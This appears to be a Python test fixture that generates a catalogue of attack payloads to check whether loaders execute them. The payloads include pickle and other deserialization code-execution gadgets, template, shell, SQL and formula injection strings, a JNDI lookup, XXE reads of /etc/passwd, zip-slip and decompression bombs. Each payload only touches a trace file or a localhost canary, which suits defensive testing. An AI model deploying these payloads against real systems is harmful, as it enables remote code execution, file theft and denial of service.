"""Bodies and words that run code, read a file or ask an address wherever something obeys them."""

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pathlib
import pickle
import shutil
import subprocess
import timeit
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import cloudpickle
import joblib
import numpy as np
import onnx
import pyarrow as pa
import skops.io
from onnx import TensorProto, helper

from tests.support.table_bodies import PARCELS, write_arrow, write_parquet


class Gadget(NamedTuple):
    """Something to send.

    Attributes
    ----------
    name : str
        Where it works, a file of this name is made in the folder of traces.
    body : bytes
        As it is sent.
    reader : str
        Python that obeys it, over ``body`` and ``text``; empty where nothing
        that is installed here would.
    is_word : bool
        Whether it is text for a value, a name, a header or a step of a path.
    """

    name: str
    body: bytes
    reader: str = ""
    is_word: bool = False


class Call:
    """What a pickle calls when it is read."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.called = function, arguments

    def __reduce__(self) -> Any:
        return self.called


_UNPICKLE = "pickle.loads(body)"


def _words(traces: Path, address: str) -> Iterator[Gadget]:
    def word(name: str, text: str, reader: str = "") -> Gadget:
        content = text.replace("TRACE", str(traces / name)).encode()
        return Gadget(name, content, reader, is_word=True)

    jinja = "jinja2.Template(text).render()"
    yield word("jinja", "{{cycler.__init__.__globals__.os.popen('touch TRACE').read()}}", jinja)
    yield word("jinja-sum", "{{1234*4321}}")
    yield word("dollar", "${1234*4321}#{1234*4321}<%= 1234*4321 %>")
    yield word("format", "{0.__class__.__init__.__globals__}{self.__class__}%(secret)s%s%n")
    yield word("eval", "__import__('os').system('touch TRACE')", "eval(text)")
    yield word("exec", "open('TRACE', 'w').close()", "exec(text)")
    for name, text in (("semicolon", "; touch TRACE;"), ("dollars", "$(touch TRACE)"),
                       ("ticks", "`touch TRACE`"), ("pipe", "| touch TRACE")):  # fmt: skip
        yield word(f"shell-{name}", text, "subprocess.run(f'echo {text}', shell=True)")
    yield word("shellshock", "() { :;}; touch TRACE")
    yield word(
        "sql", "'); ATTACH DATABASE 'TRACE' AS a; CREATE TABLE a.b(c); --",
        "sqlite3.connect('').executescript(f\"CREATE TABLE t(a); INSERT INTO t VALUES('{text}')\")",
    )  # fmt: skip
    yield word("sql-or", "' OR '1'='1")
    yield word("formula", "=cmd|' /C touch TRACE'!A0")
    yield word("address", f"{address}/fetch", "urllib.request.urlopen(text, timeout=60)")
    yield word("lookup", f"${{jndi:ldap://{address.rpartition('/')[2]}/a}}")
    yield word("file", "file:///etc/passwd")
    yield word("climb", "../../../../etc/passwd")
    yield word("script", "<script>alert(1)</script>")


def _pickles(traces: Path) -> Iterator[Gadget]:
    def pickled(name: str, *called: Any, protocol: int = 2) -> Gadget:
        return Gadget(f"pickle-{name}", pickle.dumps(Call(*called), protocol), _UNPICKLE)

    def trace(name: str) -> str:
        return str(traces / f"pickle-{name}")

    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        name = f"system-{protocol}"
        yield pickled(name, os.system, f"touch {trace(name)}", protocol=protocol)
    yield pickled("popen", subprocess.Popen, ["touch", trace("popen")])
    yield pickled("check-output", subprocess.check_output, ["touch", trace("check-output")])
    for one in (eval, exec):
        name = one.__name__
        yield pickled(name, one, f"open({trace(name)!r}, 'w').close()")
    yield pickled("open", open, trace("open"), "w")
    yield pickled("mkdir", os.mkdir, trace("mkdir"))
    yield pickled("touch", pathlib.Path.touch, Path(trace("touch")))
    yield pickled("copy", shutil.copyfile, "/etc/hostname", trace("copy"))
    yield pickled("timeit", timeit.timeit, f"open({trace('timeit')!r}, 'w')", "pass", timeit.timeit,
                  1)  # fmt: skip
    yield pickled("list", list, Call(map, os.mkdir, [trace("list")]))
    code = compile(f"open({trace('marshal')!r}, 'w').close()", "", "exec")
    yield pickled("marshal", exec, Call(marshal.loads, marshal.dumps(code)))

    def touch() -> None:  # pickled by its code, which is what cloudpickle and dill are for
        Path(trace("cloud")).touch()

    yield Gadget("pickle-cloud", cloudpickle.dumps(Call(touch)), _UNPICKLE)


def _files(traces: Path) -> Iterator[Gadget]:
    def call(name: str) -> Any:
        return Call(os.mkdir, str(traces / name))

    for name, compress in (("plain", 0), ("zlib", ("zlib", 3)), ("xz", ("xz", 3))):
        sink = io.BytesIO()
        joblib.dump(call(f"joblib-{name}"), sink, compress=compress)
        yield Gadget(f"joblib-{name}", sink.getvalue(), "joblib.load(io.BytesIO(body))")
    for name, save in (("npy", np.save), ("npz", np.savez)):
        sink = io.BytesIO()
        save(sink, np.array([call(name)], dtype=object), allow_pickle=True)
        reader = "np.load(io.BytesIO(body), allow_pickle=True)"
        yield Gadget(name, sink.getvalue(), reader + ("['arr_0']" if name == "npz" else ""))
    for tag in ("apply:os.mkdir", "new:os.mkdir", "apply:posix.mkdir"):
        name = "yaml-" + tag.replace(":", "-")
        text = f"!!python/object/{tag} [{json.dumps(str(traces / name))}]"
        yield Gadget(name, text.encode(), "yaml.unsafe_load(text)")
    yield Gadget("marshal", marshal.dumps(compile(
        f"open({str(traces / 'marshal')!r}, 'w').close()", "", "exec")),
        "exec(marshal.loads(body))")  # fmt: skip
    yield Gadget("skops", _skops(traces / "skops"), _READ_SKOPS)
    inside = pickle.dumps(call("torch"))
    yield Gadget("torch", _zip({"archive/data.pkl": inside}), "pickle.loads(unzip(body))")
    yield Gadget("zip-climbs", _zip({"../../climbed": b"x", "/tmp/absolute": b"x"}))  # noqa: S108
    for pack in (gzip, zlib, bz2, lzma):
        name = f"pickle-in-{pack.__name__}"
        packed = pack.compress(pickle.dumps(call(name)))
        yield Gadget(name, packed, f"pickle.loads({pack.__name__}.decompress(body))")
    yield Gadget("bomb", gzip.compress(gzip.compress(bytes(2**26))))


_READ_SKOPS = "skops.io.loads(body, trusted=skops.io.get_untrusted_types(data=body))"


def _skops(trace: Path) -> bytes:
    """Write a skops file that calls a function when a reader trusts the types it names."""
    whole = skops.io.dumps((subprocess.Popen, ["touch", str(trace)]))
    with zipfile.ZipFile(io.BytesIO(whole)) as file:
        given = json.loads(file.read("schema.json"))
    others = {"protocol": given["protocol"], "_skops_version": given["_skops_version"]}
    called = {"__class__": "call", "__module__": "operator", "__loader__": "OperatorFuncNode"}
    return _zip(
        {"schema.json": json.dumps(called | {"attrs": given, "__id__": 1} | others).encode()}
    )


def _zip(members: dict[str, bytes]) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w") as file:
        for name, content in members.items():
            file.writestr(name, content)
    return sink.getvalue()


def _models(address: str) -> Iterator[Gadget]:
    for name, place in (("climbs", "../../../../etc/passwd"), ("absolute", "/etc/passwd")):
        yield Gadget(f"onnx-{name}", _onnx(place))
    entity = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "{}">]><{}>&b;</{}>'
    for place in ("file:///etc/passwd", f"{address}/entity"):
        for tag in ("PMML", "svg"):
            yield Gadget(f"xml-{tag}", entity.format(place, tag, tag).encode())
    more = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    laughs = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">{more}]><a>&a9;</a>'
    yield Gadget("xml-laughs", laughs.encode())
    include = f'<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{address}/x"/></x>'
    yield Gadget("xml-include", include.encode())


def _onnx(place: str) -> bytes:
    """Write a graph whose weights are said to be in another file."""
    weights = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[1])
    weights.data_location = TensorProto.EXTERNAL
    weights.external_data.add(key="location", value=place)
    value = helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])
    graph = helper.make_graph([helper.make_node("Identity", ["w"], ["y"])], "g", [], [value],
                              [weights])  # fmt: skip
    return bytes(onnx.helper.make_model(graph).SerializeToString())


def _documents(traces: Path, address: str) -> Iterator[Gadget]:
    """Give JSON that names types, as readers do that make objects of it; none is installed."""
    command = f"touch {traces / 'json'}"
    for document in (
        {"py/object": "os.system", "py/newargs": [command]},
        {"py/reduce": [{"py/type": "os.system"}, {"py/tuple": [command]}]},
        {"py/repr": f"os/os.system({command!r})"},
        {"__class__": "os.system", "__args__": [command]},
        {"__reduce__": ["os.system", [command]]},
        {"__proto__": {"shell": command}, "constructor": {"prototype": {"shell": command}}},
        {"$type": "System.Windows.Data.ObjectDataProvider", "MethodName": "Start"},
        {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": f"{address}/a"},
        {"$ref": f"{address}/schema"}, {"url": f"{address}/u", "uri": f"{address}/u"},
        {"model": {"source": f"{address}/model", "path": "../../etc/passwd"}},
        {"instances": [{"b64": base64.b64encode(pickle.dumps(Call(os.mkdir, "x"))).decode()}]},
        {"inputs": [{"name": "args", "shape": [1], "datatype": "BYTES", "data": ["a"],
                     "parameters": {"content_type": "pickle", "shared_memory_region": "a"}}],
         "parameters": {"content_type": "pd", "headers": {"a": f"{address}/h"}}},
    ):  # fmt: skip
        yield Gadget("json", json.dumps(document).encode())


def _tables(traces: Path) -> Iterator[Gadget]:
    """Give tables with pickled types of extensions."""
    pickled = pickle.dumps(Call(os.mkdir, str(traces / "table")))
    metadata = {"ARROW:extension:name": "arrow.py_extension_type",
                "ARROW:extension:metadata": pickled}  # fmt: skip
    table = pa.Table.from_pylist(PARCELS)
    field = pa.field("weight", pa.float64(), metadata=metadata)
    table = table.cast(table.schema.set(0, field)).replace_schema_metadata({"pandas": pickled})
    yield Gadget("arrow", write_arrow(table))
    yield Gadget("parquet", write_parquet(table))


def gadgets(traces: Path, address: str) -> list[Gadget]:
    """Give every gadget.

    Parameters
    ----------
    traces : Path
        The folder of traces.
    address : str
        What nobody must ask, as http://127.0.0.1:1.
    """
    return [*_pickles(traces), *_files(traces), *_models(address), *_documents(traces, address),
            *_tables(traces), *_words(traces, address)]  # fmt: skip
